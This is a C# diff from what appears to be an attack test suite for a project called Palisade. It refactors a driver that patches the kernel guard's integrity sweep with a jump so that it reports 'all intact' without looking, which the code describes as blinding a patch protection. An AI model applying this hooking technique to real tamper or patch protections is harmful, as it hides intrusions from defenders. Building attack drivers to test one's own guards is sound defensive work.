@@ -1,28 +1,30 @@
 using System.Runtime.CompilerServices;
+using Palisade.Api;
 
 namespace Palisade.Attacks.GuardCodePatch;
 
 /// <summary>
-/// Detours guard context 0's own copy of the sweep (GuardContext.Sweep&lt;GuardTag0&gt;) to a method that reports
-/// "all intact" without looking, the first step of blinding a patch protection. Dispose restores the code.
+/// Package <c>guard-code-patch</c>: detours guard context 0's own copy of the sweep
+/// (GuardContext.Sweep&lt;GuardTag0&gt;) to a method that reports "all intact" without looking, the first step of
+/// blinding a patch protection. In the compat flavor there is no guard, and the load fails with NotFound.
 /// </summary>
-public sealed class GuardCodePatchAttack : IDisposable
+public sealed class GuardCodePatchDriver : AttackDriver
 {
     private static long s_blinded;
-    private nint _patched;
-    private byte[]? _original;
 
     /// <summary>How many sweeps the patch has skipped.</summary>
     public static long BlindedSweeps => Interlocked.Read(ref s_blinded);
 
-    /// <summary>Installs the detour.</summary>
-    public void Install()
+    /// <inheritdoc/>
+    protected override IDisposable Install(IDriverContext context)
     {
+        // Only a running guard is worth blinding: in the compat flavor there is none.
+        Rootkit.FindObject(context, "Palisade.Kernel.Guard.KernelGuard");
         var sweep = Rootkit.KernelMethod(
             "Palisade.Kernel.Guard.GuardContext",
             "Sweep",
             Rootkit.KernelType("Palisade.Kernel.Guard.GuardTag0"));
-        var replacement = typeof(GuardCodePatchAttack).GetMethod(nameof(BlindSweep), System.Reflection.BindingFlags.Static | System.Reflection.BindingFlags.NonPublic)!;
+        var replacement = typeof(GuardCodePatchDriver).GetMethod(nameof(BlindSweep), System.Reflection.BindingFlags.Static | System.Reflection.BindingFlags.NonPublic)!;
         nint body = Rootkit.BodyOf(sweep);
         long rel = (long)Rootkit.StubOf(replacement) - ((long)body + 5);
         if (rel is < int.MinValue or > int.MaxValue)
@@ -40,18 +42,8 @@ public sealed class GuardCodePatchAttack : IDisposable
 
         current[0] = 0xE9;
         BitConverter.TryWriteBytes(current.AsSpan(1), (int)rel);
-        _original = Rootkit.Write(body, current);
-        _patched = body;
-    }
-
-    /// <summary>Restores the original code.</summary>
-    public void Dispose()
-    {
-        if (_original is not null)
-        {
-            Rootkit.Write(_patched, _original);
-            _original = null;
-        }
+        byte[] original = Rootkit.Write(body, current);
+        return new Undo(() => Rootkit.Write(body, original));
     }
 
     [MethodImpl(MethodImplOptions.NoInlining | MethodImplOptions.AggressiveOptimization)]
